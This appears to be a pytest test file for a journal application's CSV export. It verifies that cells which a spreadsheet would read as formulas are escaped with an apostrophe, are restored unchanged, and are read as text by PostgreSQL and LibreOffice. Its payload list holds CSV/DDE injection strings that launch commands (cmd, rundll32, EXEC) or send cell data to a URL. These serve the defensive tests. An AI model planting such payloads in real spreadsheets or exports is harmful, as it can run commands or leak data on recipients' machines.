"""Tables that a spreadsheet opens and never obeys (T13), read by two readers that are not ours."""

import csv
import io
import re
import subprocess
from decimal import Decimal

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from journal.exchange.csv_out import Column, as_it_was, harmless, write_table
from journal.exchange.numbers import tables
from scripts import write_columns

# Forty ways to be taken for a formula, from the OWASP page on CSV injection and from spreadsheets'
# own manuals, and texts that only look like one.
PAYLOADS = [
    "=1+1", "=1+1;", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"Open")', '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")', '=IMPORTDATA("http://example.org")',
    '=IMAGE("http://example.org/a.png")', "=cmd|' /C calc'!A0", "=MSEXCEL|'..'!A1",
    "@cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C\";\"x\")",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A", '=EXEC("calc")', "=10+20+cmd|' /C calc'!A0",
    "=A1", "=$A$1", "=Sheet1!A1", "={1;2}", "=TRUE()", "=NOW()", '="="&"1"', "==1", "=-1", "--1",
    "+49 30 1234", "-5", "-", "@nora", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", "''=1+1", "=\"a\",\"b\"", "=1\r\n=2", "\t", "+", "=",
]  # fmt: skip
HARMLESS = [
    "5.20",
    "<0.6",
    "'s-Hertogenbosch",
    "3 = 4",
    "a=1",
    "50% +",
    "“=1”",
    " =1",
    "0012",
    "neg",
]
COLUMNS = (Column(name="first", what="x"), Column(name="second", what="x"))


def written(*rows):
    out = io.StringIO(newline="")
    write_table(out, COLUMNS, [{"first": first, "second": second} for first, second in rows])
    return out.getvalue().encode()


def read(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("text", PAYLOADS)
def test_t13_formula_begins_with_an_apostrophe_and_comes_back_as_it_was(text):
    (_head, (cell, _second)) = read(written((text, "x")))
    assert cell[:2] == f"'{text[0]}"
    assert as_it_was(cell) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("Dizzy;=HYPERLINK(A1)", "Dizzy;'=HYPERLINK(A1)"),
        ("Dizzy;  @SUM(1)", "Dizzy;  '@SUM(1)"),
        ("a\t-1;+1", "a\t'-1;'+1"),
        ("a;'=1", "a;''=1"),
        ('a;"=1"', 'a;"\'=1"'),
        ("Better\n=1+1", "Better\n'=1+1"),
        ("=1;=2", "'=1;'=2"),
        ("\t=1", "'\t'=1"),
        ("a; b = c", "a; b = c"),
    ],
)
def test_t13_no_formula_stands_after_what_ends_a_cell_elsewhere(text, cell):
    assert harmless(text) == cell
    assert as_it_was(cell) == text


@given(st.text(st.sampled_from("ab;\t\r\n =+-@'\"＝")))
def test_t13_no_cell_of_a_row_divided_at_semicolons_begins_a_formula(text):
    """As a German spreadsheet divides it, which knows a quote at the beginning of a cell only."""
    assert as_it_was(harmless(text)) == text

    for cell in re.split("[;\t\r\n]", f"id,{harmless(text)},x"):
        assert not re.match('[ "]*[=+@＝-]', cell)


@pytest.mark.parametrize("text", HARMLESS)
def test_text_that_nothing_obeys_stays_as_it_is(text):
    (_head, (cell, _second)) = read(written((text, "x")))
    assert cell == text
    assert as_it_was(cell) == text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_t13_every_text_comes_back_and_none_begins_as_a_formula(text):
    cell = harmless(text)
    assert as_it_was(cell) == text
    assert not re.match("[=+\\-@\t\r\n\0＝＋－＠]", cell)


def test_numbers_stay_numbers_with_their_digits():
    body = written((Decimal("-1.50"), Decimal("1E+3")), (7, True), (None, ["a", "=b"]))
    assert body == "\ufefffirst,second\r\n-1.50,1000\r\n7,yes\r\n,a; '=b\r\n".encode()


def test_t13_forty_payloads_are_the_same_texts_to_postgresql(postgres):
    """It reads RFC 4180 by rules of its own: quotes, line ends and empty cells."""
    assert len(PAYLOADS) >= 40
    body = written(*((text, str(place)) for place, text in enumerate(PAYLOADS)))
    engine = sa.create_engine(postgres().replace("postgresql://", "postgresql+psycopg://"))
    with engine.begin() as connection:
        connection.execute(sa.text("CREATE TABLE cells (first text, second text)"))
        with connection.connection.cursor() as cursor:
            order = "COPY cells FROM STDIN (FORMAT csv, HEADER true, ENCODING 'UTF8')"
            with cursor.copy(order) as copy:
                copy.write(body)
        found = connection.execute(sa.text("SELECT first FROM cells ORDER BY second::int")).all()
    engine.dispose()
    assert [cell for (cell,) in found] == [harmless(text) for text in PAYLOADS]


@pytest.mark.nightly
def test_t13_libreoffice_finds_texts_and_never_a_formula(tmp_path):
    """Opened as a double click opens it, then told what each cell is."""
    file = tmp_path / "cells.csv"
    file.write_bytes(written(*((text, str(place)) for place, text in enumerate(PAYLOADS))))
    order = ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/home"]
    convert = ["--convert-to", "fods", "--outdir", str(tmp_path), str(file)]
    subprocess.run([*order, *convert], check=True, capture_output=True, timeout=240)
    told = (tmp_path / "cells.fods").read_text(encoding="utf-8")
    assert "table:formula=" not in told
    assert told.count('office:value-type="string"') >= len(PAYLOADS)


def test_every_column_of_every_table_says_what_stands_in_it(root):
    assert (root / "docs" / "columns.md").read_text(encoding="utf-8") == write_columns.written()
    assert all(column.what for table in tables() for column in table.columns)
    for table in tables():
        names = [column.name for column in table.columns]
        assert len(set(names)) == len(names), table.name
